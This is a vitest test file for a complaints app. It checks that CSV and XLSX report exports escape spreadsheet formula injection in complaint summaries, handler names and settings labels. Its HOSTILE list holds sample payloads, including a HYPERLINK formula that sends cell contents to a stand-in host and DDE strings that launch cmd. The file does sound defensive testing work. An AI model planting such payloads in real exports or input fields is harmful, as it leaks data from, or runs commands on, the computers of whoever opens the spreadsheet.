/**
 * The exports are safe from spreadsheet formula injection: text that starts with = + - @, a tab or a carriage
 * return (typed by a handler, or an administrator's label in the settings) arrives in CSV and XLSX behind an
 * apostrophe, as text; numbers stay numbers. On SQLite and PostgreSQL.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, safeText } from '../../src/analysis/export/safe-cell.ts';
import { insertComplaint } from '../../src/db/repositories/complaints.ts';
import { addStandardUsers, createTestApp, type TestApp } from '../helpers/app.ts';
import { describeEachDialect } from '../helpers/databases.ts';
import { CASES, complaintOf, REPORT_NOW } from './dataset.ts';
import { get, parseCsv, readXlsx } from './helpers.ts';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
  '+31 6 1234 5678',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('one cell', () => {
  it.each(HOSTILE)('%j gets an apostrophe in front', (text) => {
    expect(safeText(text)).toBe(`'${text}`);
  });

  it.each(['Afspraken niet nagekomen', '< 5', '0,3%', ' =1+1', 'e=mc²', ''])('%j stays as it is', (text) => {
    expect(safeText(text)).toBe(text);
  });

  it('writes text quoted with doubled quotes, numbers bare, nothing as an empty field', () => {
    expect(csvField('=1+"1"')).toBe('"\'=1+""1"""');
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(null)).toBe('');
  });
});

describeEachDialect('exports with hostile text', (dialect) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp(dialect, {
      settings: (settings) => {
        settings.teams = [{ code: 'evil', label: { nl: '=HYPERLINK("https://evil.example")', en: '@evil' } }];
      },
    });
    await addStandardUsers(t);
    for (const [i, text] of HOSTILE.entries()) {
      const base = complaintOf(CASES[16]!, 16);
      await insertComplaint(
        t.db.kysely,
        {
          ...base,
          id: `00000000-0000-4000-8000-00000000f00${i}`,
          reference: `VP-2025-0010${i}`,
          team: 'evil',
          summary: text,
          handler: { ...base.handler!, name: text },
        },
        `token-hash-hostile-${i}`,
      );
    }
    t.setNow(REPORT_NOW.toISOString());
  });
  afterAll(() => t.close());

  it('CSV: every such summary and handler name behind an apostrophe', async () => {
    const rows = parseCsv((await get(t, 'qm', '/api/v1/staff/reports/2025.csv')).body);
    const header = rows[0]!;
    const cells = rows
      .slice(1)
      .flatMap((row) => [row[header.indexOf('Korte omschrijving')], row[header.indexOf('Behandelaar')]]);
    expect(cells.sort()).toEqual(HOSTILE.flatMap((text) => [`'${text}`, `'${text}`]).sort());
    expect(
      rows
        .slice(1)
        .every((row) => row[header.indexOf('Team of vestiging')] === '\'=HYPERLINK("https://evil.example")'),
    ).toBe(true);
  });

  it('XLSX: text cells, never a formula, behind an apostrophe', async () => {
    const sheets = await readXlsx((await get(t, 'qm', '/api/v1/staff/reports/2025.xlsx')).rawPayload);
    const rows = sheets['Klachten 2025']!;
    const all = rows.flat();
    expect(all.filter((value) => typeof value === 'string' && value.startsWith('FORMULA:'))).toEqual([]);
    const header = rows[0]!;
    expect(
      rows
        .slice(1)
        .map((row) => row[header.indexOf('Korte omschrijving')])
        .sort(),
      // XML reads a carriage return back as a line feed; the apostrophe is what matters.
    ).toEqual(HOSTILE.map((text) => `'${text.replace('\r', '\n')}`).sort());
    expect(
      rows.slice(1).every((row) => typeof row[header.indexOf('Werkdagen tot bevestiging')] === 'number'),
    ).toBe(true);
  });

  it('the publishable tables escape the labels from the settings too', async () => {
    const csv = parseCsv((await get(t, 'qm', '/api/v1/staff/reports/2025.csv?version=publishable')).body);
    expect(csv.filter((row) => row[2]?.includes('HYPERLINK')).map((row) => row[2])).toEqual([
      '\'=HYPERLINK("https://evil.example")',
    ]);
    const sheets = await readXlsx(
      (await get(t, 'qm', '/api/v1/staff/reports/2025.xlsx?version=publishable&lang=en')).rawPayload,
    );
    const labels = Object.values(sheets)
      .flat(2)
      .filter((value) => typeof value === 'string' && value.includes('evil'));
    expect(labels).toEqual(["'@evil"]);
  });
});
